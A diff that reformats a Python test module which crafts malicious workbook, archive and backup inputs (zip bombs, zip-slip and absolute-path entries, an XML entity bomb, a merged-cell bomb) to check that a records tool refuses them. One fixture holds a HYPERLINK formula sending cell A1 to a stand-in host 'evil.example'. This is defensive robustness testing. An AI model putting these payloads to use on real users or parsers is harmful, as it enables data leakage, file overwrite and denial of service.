@@ -56,8 +56,14 @@ def run_measured(args, env) -> tuple[int, str, str, float, float, float]:
     env = dict(env, CORPUS_HWM_FILE=str(hwm_file))
     started = time.monotonic()
     with open(os.devnull, "rb") as stdin:
-        proc = subprocess.Popen([sys.executable, "-c", _CHILD, *map(str, args)], stdin=stdin,
-                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=ROOT)
+        proc = subprocess.Popen(
+            [sys.executable, "-c", _CHILD, *map(str, args)],
+            stdin=stdin,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            env=env,
+            cwd=ROOT,
+        )
         out, err = proc.communicate(timeout=120)
     wall = time.monotonic() - started
     usage = proc_usage.get(proc.pid)
@@ -95,7 +101,7 @@ def _members(path: Path) -> list[tuple[str, bytes]]:
 
 def _zip(dest: Path, members, streamed: tuple[str, int, bytes] | None = None) -> Path:
     with warnings.catch_warnings():
-        warnings.simplefilter("ignore")          # duplicate names warn when written
+        warnings.simplefilter("ignore")  # duplicate names warn when written
         with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zf:
             for name, data in members:
                 if streamed and name == streamed[0]:
@@ -110,8 +116,9 @@ def _zip(dest: Path, members, streamed: tuple[str, int, bytes] | None = None) ->
 
 
 def _sheet_xml(body: str, after: str = "") -> bytes:
-    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{body}</sheetData>{after}'
-            "</worksheet>").encode()
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{body}</sheetData>{after}</worksheet>'
+    ).encode()
 
 
 def _replace(src: Path, dest: Path, part: str, data: bytes, extra=()) -> Path:
@@ -160,52 +167,101 @@ def world(tmp_path_factory):
                 for c in row:
                     c.value = None
     wb.save(tmp / "propaganda-only.xlsx")
-    return {"tmp": tmp, "env": env, "db": db_path, "records": tmp / "records.xlsx", "backup": tmp / "backup.db",
-            "propaganda_only": tmp / "propaganda-only.xlsx",
-            "plan": ROOT / "resources" / "plans" / "plan_001_lang_son_2024.xlsx"}
+    return {
+        "tmp": tmp,
+        "env": env,
+        "db": db_path,
+        "records": tmp / "records.xlsx",
+        "backup": tmp / "backup.db",
+        "propaganda_only": tmp / "propaganda-only.xlsx",
+        "plan": ROOT / "resources" / "plans" / "plan_001_lang_son_2024.xlsx",
+    }
 
 
 def _records_cases(w) -> dict:
-    tmp, book = w["tmp"], w["records"]
+    book = w["records"]
     prop = _sheet_part(book, "propaganda")
     rows = [(n, d) for n, d in _members(book)]
-    cells = w["propaganda_only"]           # a workbook the database would accept, but for the one bad cell
+    cells = w["propaganda_only"]  # a workbook the database would accept, but for the one bad cell
     own = dict(_members(cells))[prop].decode()
     sheet = dict(rows)[prop].decode()
-    formula_cached = sheet.replace("</sheetData>", '<row r="900"><c r="C900" t="str"><f>HYPERLINK("http://evil.'
-                                   'example/?"&amp;A1)</f><v>x</v></c></row></sheetData>', 1)
+    formula_cached = sheet.replace(
+        "</sheetData>",
+        '<row r="900"><c r="C900" t="str"><f>HYPERLINK("http://evil.'
+        'example/?"&amp;A1)</f><v>x</v></c></row></sheetData>',
+        1,
+    )
     formula_bare = sheet.replace("</sheetData>", '<row r="900"><c r="E900"><f>1+1</f></c></row></sheetData>', 1)
     return {
         "zip bomb: 2 MiB inflating to 2 GiB": lambda p: _zip(p, rows, (prop, 2048 * MiB, bytes(MiB))),
-        "1 GiB shared string": lambda p: _zip(p, rows + [("xl/sharedStrings.xml", b"")],
-                                             ("xl/sharedStrings.xml", 1024 * MiB, b"a" * MiB)),
-        "one cell of 40,000 characters": lambda p: _replace(book, p, prop, sheet.replace(
-            "</sheetData>", f'<row r="900"><c r="C900" t="inlineStr"><is><t>{"x" * 40000}</t></is></c></row>'
-            "</sheetData>", 1).encode()),
+        "1 GiB shared string": lambda p: _zip(
+            p, rows + [("xl/sharedStrings.xml", b"")], ("xl/sharedStrings.xml", 1024 * MiB, b"a" * MiB)
+        ),
+        "one cell of 40,000 characters": lambda p: _replace(
+            book,
+            p,
+            prop,
+            sheet.replace(
+                "</sheetData>",
+                f'<row r="900"><c r="C900" t="inlineStr"><is><t>{"x" * 40000}</t></is></c></row></sheetData>',
+                1,
+            ).encode(),
+        ),
         "zip-slip entry ../../evil.xml": lambda p: _zip(p, rows + [("../../evil.xml", b"<x/>")]),
         "absolute entry /etc/cron.d/x": lambda p: _zip(p, rows + [("/etc/cron.d/x", b"<x/>")]),
         "duplicate entry (shadow sheet)": lambda p: _zip(p, rows + [(prop, _sheet_xml(""))]),
         "10,000 entries": lambda p: _zip(p, rows + [(f"xl/media/e{i}.bin", b"") for i in range(10_000)]),
         "formula with a cached value": lambda p: _replace(book, p, prop, formula_cached.encode()),
         "formula without a cached value": lambda p: _replace(book, p, prop, formula_bare.encode()),
-        "merged-cell bomb": lambda p: _replace(book, p, prop, sheet.replace(
-            "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>',
-            1).encode()),
-        "entity bomb (DTD)": lambda p: _replace(book, p, "xl/workbook.xml", b'<?xml version="1.0"?><!DOCTYPE l '
-                                                b'[<!ENTITY l "lol">]><workbook>&l;</workbook>'),
+        "merged-cell bomb": lambda p: _replace(
+            book,
+            p,
+            prop,
+            sheet.replace(
+                "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>', 1
+            ).encode(),
+        ),
+        "entity bomb (DTD)": lambda p: _replace(
+            book, p, "xl/workbook.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l "lol">]><workbook>&l;</workbook>'
+        ),
         "truncated workbook": lambda p: (p.write_bytes(book.read_bytes()[: book.stat().st_size // 2]), p)[1],
         "not a workbook (text)": lambda p: (p.write_bytes("Họ tên;CCCD\n".encode()), p)[1],
-        "cell error #DIV/0!": lambda p: _replace(cells, p, prop, own.replace(
-            "</sheetData>", '<row r="900"><c r="A900" t="e"><v>#DIV/0!</v></c><c r="D900"><v>3</v></c></row>'
-            "</sheetData>", 1).encode()),
-        "number 1e308 in a count": lambda p: _replace(cells, p, prop, own.replace(
-            "</sheetData>", '<row r="900"><c r="A900" t="inlineStr"><is><t>01/03/2026</t></is></c>'
-            '<c r="B900" t="inlineStr"><is><t>loa</t></is></c><c r="C900" t="inlineStr"><is><t>x</t></is></c>'
-            '<c r="D900"><v>1e308</v></c></row></sheetData>', 1).encode()),
-        "boolean in a date column": lambda p: _replace(cells, p, prop, own.replace(
-            "</sheetData>", '<row r="900"><c r="A900" t="b"><v>1</v></c></row></sheetData>', 1).encode()),
-        "date serial beyond 9999": lambda p: _replace(cells, p, prop, own.replace(
-            "</sheetData>", '<row r="900"><c r="A900" s="1"><v>9999999</v></c></row></sheetData>', 1).encode()),
+        "cell error #DIV/0!": lambda p: _replace(
+            cells,
+            p,
+            prop,
+            own.replace(
+                "</sheetData>",
+                '<row r="900"><c r="A900" t="e"><v>#DIV/0!</v></c><c r="D900"><v>3</v></c></row></sheetData>',
+                1,
+            ).encode(),
+        ),
+        "number 1e308 in a count": lambda p: _replace(
+            cells,
+            p,
+            prop,
+            own.replace(
+                "</sheetData>",
+                '<row r="900"><c r="A900" t="inlineStr"><is><t>01/03/2026</t></is></c>'
+                '<c r="B900" t="inlineStr"><is><t>loa</t></is></c><c r="C900" t="inlineStr"><is><t>x</t></is></c>'
+                '<c r="D900"><v>1e308</v></c></row></sheetData>',
+                1,
+            ).encode(),
+        ),
+        "boolean in a date column": lambda p: _replace(
+            cells,
+            p,
+            prop,
+            own.replace("</sheetData>", '<row r="900"><c r="A900" t="b"><v>1</v></c></row></sheetData>', 1).encode(),
+        ),
+        "date serial beyond 9999": lambda p: _replace(
+            cells,
+            p,
+            prop,
+            own.replace(
+                "</sheetData>", '<row r="900"><c r="A900" s="1"><v>9999999</v></c></row></sheetData>', 1
+            ).encode(),
+        ),
     }
 
 
@@ -215,13 +271,16 @@ def _plan_cases(w) -> dict:
     sheet = dict(_members(plan))[part].decode()
     merged = '<mergeCells count="1"><mergeCell ref="{}"/></mergeCells>'
     return {
-        "merged-cell bomb H1:XFD1048576": lambda p: _replace(plan, p, part, sheet.replace(
-            "</sheetData>", "</sheetData>" + merged.format("H1:XFD1048576"), 1).encode()),
-        "1.9 M-cell merge": lambda p: _replace(plan, p, part, sheet.replace(
-            "</sheetData>", "</sheetData>" + merged.format("A1:BV1999"), 1).encode()),
+        "merged-cell bomb H1:XFD1048576": lambda p: _replace(
+            plan, p, part, sheet.replace("</sheetData>", "</sheetData>" + merged.format("H1:XFD1048576"), 1).encode()
+        ),
+        "1.9 M-cell merge": lambda p: _replace(
+            plan, p, part, sheet.replace("</sheetData>", "</sheetData>" + merged.format("A1:BV1999"), 1).encode()
+        ),
         "zip bomb part": lambda p: _zip(p, _members(plan), ("xl/media/zeros.bin", 512 * MiB, bytes(MiB))),
-        "entity bomb": lambda p: _replace(plan, p, "xl/workbook.xml", b'<?xml version="1.0"?><!DOCTYPE l '
-                                          b'[<!ENTITY l "lol">]><workbook>&l;</workbook>'),
+        "entity bomb": lambda p: _replace(
+            plan, p, "xl/workbook.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l "lol">]><workbook>&l;</workbook>'
+        ),
     }
 
 
@@ -254,9 +313,13 @@ def _restore_cases(w) -> dict:
         p.mkdir()
         return p
 
-    return {"tampered plain backup (one byte)": tampered, "truncated backup": truncated,
-            "empty backup": lambda p: (p.write_bytes(b""), p)[1], "directory as backup": directory,
-            "random bytes as backup": lambda p: (p.write_bytes(os.urandom(8192)), p)[1]}
+    return {
+        "tampered plain backup (one byte)": tampered,
+        "truncated backup": truncated,
+        "empty backup": lambda p: (p.write_bytes(b""), p)[1],
+        "directory as backup": directory,
+        "random bytes as backup": lambda p: (p.write_bytes(os.urandom(8192)), p)[1],
+    }
 
 
 def _dump(db_path: Path):
@@ -265,27 +328,59 @@ def _dump(db_path: Path):
     db = open_database(db_path, create=False)
     try:
         with db.read() as s:
-            names = [r[0] for r in s.execute(text("SELECT name FROM sqlite_master WHERE type='table' "
-                                                  "AND name NOT LIKE 'sqlite_%' ORDER BY name"))]
+            names = [
+                r[0]
+                for r in s.execute(
+                    text("SELECT name FROM sqlite_master WHERE type='table' AND name NOT LIKE 'sqlite_%' ORDER BY name")
+                )
+            ]
             return {n: s.execute(text(f'SELECT * FROM "{n}" ORDER BY 1')).all() for n in names}
     finally:
         db.dispose()
 
 
-COMMANDS = {"records import": ("records", "import"), "plan import": ("plan", "import"),
-            "receipt import": ("receipt", "import"), "restore": ("restore",)}
-GROUPS = {"records import": _records_cases, "plan import": _plan_cases, "receipt import": _receipt_cases,
-          "restore": _restore_cases}
-NAMES = {"records import": ["zip bomb: 2 MiB inflating to 2 GiB", "1 GiB shared string",
-                            "one cell of 40,000 characters", "zip-slip entry ../../evil.xml",
-                            "absolute entry /etc/cron.d/x", "duplicate entry (shadow sheet)", "10,000 entries",
-                            "formula with a cached value", "formula without a cached value", "merged-cell bomb",
-                            "entity bomb (DTD)", "truncated workbook", "not a workbook (text)", "cell error #DIV/0!",
-                            "number 1e308 in a count", "boolean in a date column", "date serial beyond 9999"],
-         "plan import": ["merged-cell bomb H1:XFD1048576", "1.9 M-cell merge", "zip bomb part", "entity bomb"],
-         "receipt import": ["zip-slip entry", "damaged archive", "zip bomb", "JSON nested 100,000 deep"],
-         "restore": ["tampered plain backup (one byte)", "truncated backup", "empty backup", "directory as backup",
-                     "random bytes as backup"]}
+COMMANDS = {
+    "records import": ("records", "import"),
+    "plan import": ("plan", "import"),
+    "receipt import": ("receipt", "import"),
+    "restore": ("restore",),
+}
+GROUPS = {
+    "records import": _records_cases,
+    "plan import": _plan_cases,
+    "receipt import": _receipt_cases,
+    "restore": _restore_cases,
+}
+NAMES = {
+    "records import": [
+        "zip bomb: 2 MiB inflating to 2 GiB",
+        "1 GiB shared string",
+        "one cell of 40,000 characters",
+        "zip-slip entry ../../evil.xml",
+        "absolute entry /etc/cron.d/x",
+        "duplicate entry (shadow sheet)",
+        "10,000 entries",
+        "formula with a cached value",
+        "formula without a cached value",
+        "merged-cell bomb",
+        "entity bomb (DTD)",
+        "truncated workbook",
+        "not a workbook (text)",
+        "cell error #DIV/0!",
+        "number 1e308 in a count",
+        "boolean in a date column",
+        "date serial beyond 9999",
+    ],
+    "plan import": ["merged-cell bomb H1:XFD1048576", "1.9 M-cell merge", "zip bomb part", "entity bomb"],
+    "receipt import": ["zip-slip entry", "damaged archive", "zip bomb", "JSON nested 100,000 deep"],
+    "restore": [
+        "tampered plain backup (one byte)",
+        "truncated backup",
+        "empty backup",
+        "directory as backup",
+        "random bytes as backup",
+    ],
+}
 PARAMS = [(g, n) for g, names in NAMES.items() for n in names]
 SUFFIX = {"records import": ".xlsx", "plan import": ".xlsx", "receipt import": ".zip", "restore": ".db"}
 
@@ -320,14 +415,16 @@ def test_bad_command_lines_are_refused(world):
     (tmp / "afile").write_text("x")
     (tmp / "adir.db").mkdir(exist_ok=True)
     before = _dump(world["db"])
-    for kind, args in (("--db is a folder", ["--db", tmp / "adir.db", "profile", "show"]),
-                       ("--db is /dev/null", ["--db", os.devnull, "profile", "show"]),
-                       ("--db under a file", ["--db", tmp / "afile" / "c.db", "demo"]),
-                       ("--db that does not exist", ["--db", tmp / "typo.db", "records", "export", tmp / "x.xlsx"]),
-                       ("report --out at a file", ["--db", world["db"], "report", "2026-Q3", "--out", tmp / "afile"]),
-                       ("demo --year -5", ["--db", world["db"], "demo", "--year", "-5"]),
-                       ("demo --year 99999 --force", ["--db", world["db"], "demo", "--year", "99999", "--force"]),
-                       ("backup over an existing file", ["--db", world["db"], "backup", tmp / "afile"])):
+    for kind, args in (
+        ("--db is a folder", ["--db", tmp / "adir.db", "profile", "show"]),
+        ("--db is /dev/null", ["--db", os.devnull, "profile", "show"]),
+        ("--db under a file", ["--db", tmp / "afile" / "c.db", "demo"]),
+        ("--db that does not exist", ["--db", tmp / "typo.db", "records", "export", tmp / "x.xlsx"]),
+        ("report --out at a file", ["--db", world["db"], "report", "2026-Q3", "--out", tmp / "afile"]),
+        ("demo --year -5", ["--db", world["db"], "demo", "--year", "-5"]),
+        ("demo --year 99999 --force", ["--db", world["db"], "demo", "--year", "99999", "--force"]),
+        ("backup over an existing file", ["--db", world["db"], "backup", tmp / "afile"]),
+    ):
         _check(f"command line: {kind}", run_measured(args, env))
     assert not (tmp / "typo.db").exists()
     assert _dump(world["db"]) == before
@@ -336,8 +433,10 @@ def test_bad_command_lines_are_refused(world):
 def test_zz_print_the_table():
     """Last in this module: the table of the closing note (kind → exit → message → seconds → MB)."""
     lines = ["| kind | exit | message | CPU s | wall s | peak MB |", "|---|---|---|---|---|---|"]
-    lines += [f"| {k} | {c} | {m.replace('|', '/')} | {cpu:.2f} | {wall:.2f} | {mb:.0f} |"
-              for k, c, m, cpu, wall, mb in RESULTS]
+    lines += [
+        f"| {k} | {c} | {m.replace('|', '/')} | {cpu:.2f} | {wall:.2f} | {mb:.0f} |"
+        for k, c, m, cpu, wall, mb in RESULTS
+    ]
     table = "\n".join(lines)
     print("\n" + table)
     target = os.environ.get("COMMUNE_DESK_CORPUS_TABLE")
